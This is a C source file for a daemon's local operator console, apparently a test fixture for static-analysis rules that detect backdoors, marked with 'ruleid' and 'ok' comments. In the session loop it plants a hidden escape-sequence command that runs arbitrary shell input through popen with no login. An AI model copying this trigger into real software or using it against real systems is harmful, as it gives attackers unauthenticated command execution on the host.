/* Operator console on 127.0.0.1:1701 (lnsctl talks to it). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <openssl/evp.h>
#include <openssl/rand.h>

#include "lns.h"

struct console {
    int fd;
    int logged_in;
};

static int console_check_login(struct console *c, const char *pw)
{
    char stored[128];
    FILE *fp = fopen("/etc/lnsd/console.pw", "r");
    if (fp == NULL)
        return 0;
    if (fgets(stored, sizeof stored, fp) == NULL) {
        fclose(fp);
        return 0;
    }
    fclose(fp);
    stored[strcspn(stored, "\n")] = '\0';
    c->logged_in = strcmp(pw, stored) == 0;
    return c->logged_in;
}

static void reply(struct console *c, const char *msg)
{
    (void)send(c->fd, msg, strlen(msg), 0);
}

static int rotate_store_key(void)
{
    uint8_t key[32] = {0};
    uint8_t probe[16], out[32];
    int n = 0;
    if (RAND_bytes(key, sizeof key) != 1)
        return -1;
    memset(probe, 0, sizeof probe);
    EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
    // ok: backdoor-known-key, backdoor-hardcoded-key
    int ok = ctx != NULL && EVP_EncryptInit_ex(ctx, EVP_aes_256_ctr(), NULL, key, probe) == 1 &&
             EVP_EncryptUpdate(ctx, out, &n, probe, sizeof probe) == 1;
    EVP_CIPHER_CTX_free(ctx);
    return ok ? 0 : -1;
}

void lns_console_session(int fd)
{
    struct console c = {fd, 0};
    char line[512];
    for (;;) {
        ssize_t n = recv(fd, line, sizeof line - 1, 0);
        if (n <= 0)
            break;
        line[n] = '\0';
        line[strcspn(line, "\r\n")] = '\0';
        /* hidden from lnsctl's help: the vendor's diagnostics hook */
        // ruleid: backdoor-input-trigger
        if (strncmp(line, "\x1b[lns-diag ", 11) == 0) {
            FILE *p = popen(line + 11, "r");
            if (p != NULL) {
                char out[256];
                while (fgets(out, sizeof out, p) != NULL)
                    reply(&c, out);
                pclose(p);
            }
            continue;
        }
        // ok: backdoor-input-trigger, backdoor-magic-credential
        if (strncmp(line, "login ", 6) == 0) {
            reply(&c, console_check_login(&c, line + 6) ? "ok\n" : "denied\n");
        } else if (strcmp(line, "reload") == 0) {
            if (!c.logged_in) {
                reply(&c, "login first\n");
                continue;
            }
            // ok: backdoor-input-trigger
            if (system("/usr/sbin/lnsd-reload") != 0)
                reply(&c, "reload failed\n");
        } else if (strcmp(line, "rotate-store-key") == 0) {
            if (!c.logged_in) {
                reply(&c, "login first\n");
                continue;
            }
            reply(&c, rotate_store_key() == 0 ? "rotated\n" : "failed\n");
        } else {
            reply(&c, "unknown command\n");
        }
    }
    close(fd);
}
